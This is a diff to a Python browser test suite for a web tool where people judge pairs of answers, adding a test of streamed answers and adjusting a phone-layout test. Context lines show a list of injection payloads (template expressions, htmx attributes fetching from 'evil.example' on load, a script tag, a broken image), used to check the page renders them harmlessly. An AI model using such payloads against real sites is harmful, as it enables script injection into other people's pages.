@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import asyncio
 import gzip
 import os
 import re
 import signal
 import sys
+import threading
 import time
-from collections.abc import Iterator
+from collections.abc import AsyncIterator, Iterator
 from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
@@ -22,8 +24,6 @@ from penchant.judges.humans import read_preferences
 from penchant.studio import pairs
 from penchant.studio.pairs import Answers, Arena
 
-if BINARY is None and os.environ.get("PENCHANT_NEEDS_BROWSER"):
-    raise RuntimeError("PENCHANT_NEEDS_BROWSER is set, and there is no chromium here")
 pytestmark = pytest.mark.skipif(BINARY is None, reason="no chromium here: the studio was not looked at in a browser")
 
 AXE = gzip.decompress((Path(__file__).parent / "axe/axe.min.js.gz").read_bytes()).decode()
@@ -132,8 +132,11 @@ def test_a_phone_can_do_it(browser: Browser, tmp_path: Path) -> None:
         buttons = "[...document.querySelectorAll('.say')].map((e) => { const r = e.getBoundingClientRect(); return [r.height, r.bottom, r.left, r.right]; })"
         for height, bottom, left, right in browser.run(buttons):
             assert height >= 44 and bottom <= 900 and left >= 0 and right <= 390, "large enough, and on the screen"
+        browser.run("document.querySelector('[data-fold]').click()")
+        assert browser.run("document.documentElement.scrollHeight") > 1500
+        assert all(bottom <= 900 for _, bottom, _, _ in browser.run(buttons)), "the keys stay on the screen"
         before = browser.run(ORDER)
-        browser.run("document.querySelector('[data-fold]').click(); document.querySelector('.say.left').click()")
+        browser.run("document.querySelector('.say.left').click()")
         browser.wait(f"{ORDER} !== '{before}'")
         assert len(judgements(arena)) == 1 and serious(browser) == []
 
@@ -212,6 +215,36 @@ PAYLOADS = (
     "{{ 7*7 }} ${7*7} <%= 7*7 %> hx-get=\"http://evil.example\" <div hx-get='http://evil.example' hx-trigger='load'>",
     "```html\n<script>document.title='owned'</script>\n```\n\n| <b>a</b> | b |\n|---|---|\n| <img src=x> | 2 |",
 )
+
+
+def test_answers_that_are_written_are_seen_and_then_judged(
+    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    go_on = threading.Event()
+
+    async def write(self: Any, studio: Any, writers: Any, prompt: Any) -> AsyncIterator[tuple[int, str]]:
+        yield 0, "<b>Half "
+        yield 1, "The other"
+        while not go_on.is_set():
+            await asyncio.sleep(0.01)
+        yield 0, "an answer**"
+
+    monkeypatch.setattr("penchant.studio.writers.Writers.write", write)
+    two = {"one": {"run": "a"}, "two": {"run": "b"}}
+    arena = arena_of(tmp_path, answers=pairs.of_prompts(["Why?"], two), writers=two)
+    with studio_of(tmp_path) as server:
+        enter(browser, server, "arena/test")
+        sign_in(browser, "Ada")
+        browser.wait("document.querySelector('.sides').innerText.includes('The other')")
+        assert "<b>Half" in browser.run("document.querySelector('.sides').innerText")
+        assert browser.run("document.querySelector('.say.left').disabled")
+        browser.press("ArrowLeft")
+        go_on.set()
+        browser.wait("!document.querySelector('.say.left')?.disabled")
+        say(browser, "ArrowLeft")
+        (row,) = lines(arena)
+        assert {row["answer_a"], row["answer_b"]} == {"<b>Half an answer**", "The other"}
+        assert browser.complaints() == []
 
 
 def test_payloads_do_nothing_and_ask_for_nothing(browser: Browser, tmp_path: Path) -> None:
